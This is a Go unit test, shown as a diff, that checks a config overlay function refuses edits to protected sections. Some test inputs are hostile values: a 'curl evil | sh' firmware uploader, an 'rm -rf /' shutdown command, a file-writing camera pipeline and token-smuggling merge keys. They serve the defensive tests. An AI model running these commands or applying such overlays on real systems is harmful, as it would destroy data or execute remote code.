@@ -0,0 +1,68 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// testConfigFile copies the shipped config.yaml into a temp dir
+func testConfigFile(t *testing.T) string {
+	t.Helper()
+	data, err := os.ReadFile("config.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, data, 0600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestApplyOverlay(t *testing.T) {
+	path := testConfigFile(t)
+	before, _ := os.ReadFile(path)
+
+	tests := []struct {
+		name    string
+		overlay string
+		wantErr string
+	}{
+		{"log level", "log:\n  level: debug\n", ""},
+		{"nested runtime setting", "traffic:\n  horizontal_limit: 50\n", ""},
+		{"router address", "network:\n  target_host: 10.0.0.9\n", ""},
+		{"firmware uploader", "firmware:\n  uploader: \"sh -c 'curl evil | sh'\"\n", "firmware"},
+		{"admin token", "tokens:\n  admin_token: hunter2\n", "tokens"},
+		{"auth section", "auth:\n  shared_secret: x\n", "auth"},
+		{"control api token", "control:\n  api_token: x\n", "control.api_token"},
+		{"shutdown command", "power:\n  shutdown_command: [\"rm\", \"-rf\", \"/\"]\n", "power.shutdown_command"},
+		{"storage class", "storage:\n  classes:\n    - name: all\n      dir: /\n      pattern: \"*\"\n", "storage"},
+		{"camera pipeline", "camera:\n  audio:\n    device: \"x ! filesink location=/tmp/a\"\n", "camera"},
+		{"privacy", "forwarding:\n  privacy:\n    enabled: false\n", "forwarding.privacy"},
+		{"forwarding setting beside privacy", "forwarding:\n  pass_unknown: false\n", ""},
+		{"parent replaced by a scalar", "control: null\n", "control.api_token"},
+		{"merge key", "base: &b\n  api_token: x\ncontrol:\n  <<: *b\n", "merge keys"},
+		{"not a mapping", "- a\n", "mapping"},
+	}
+	for _, tt := range tests {
+		_, merged, err := ApplyOverlay(path, []byte(tt.overlay), false)
+		if tt.wantErr == "" {
+			if err != nil {
+				t.Errorf("%s: ApplyOverlay() = %v", tt.name, err)
+			} else if len(merged) == 0 {
+				t.Errorf("%s: no merged config", tt.name)
+			}
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+			t.Errorf("%s: ApplyOverlay() = %v, want an error about %s", tt.name, err, tt.wantErr)
+		}
+	}
+
+	// ApplyOverlay never writes the file
+	if after, _ := os.ReadFile(path); string(after) != string(before) {
+		t.Error("ApplyOverlay() changed the config file")
+	}
+}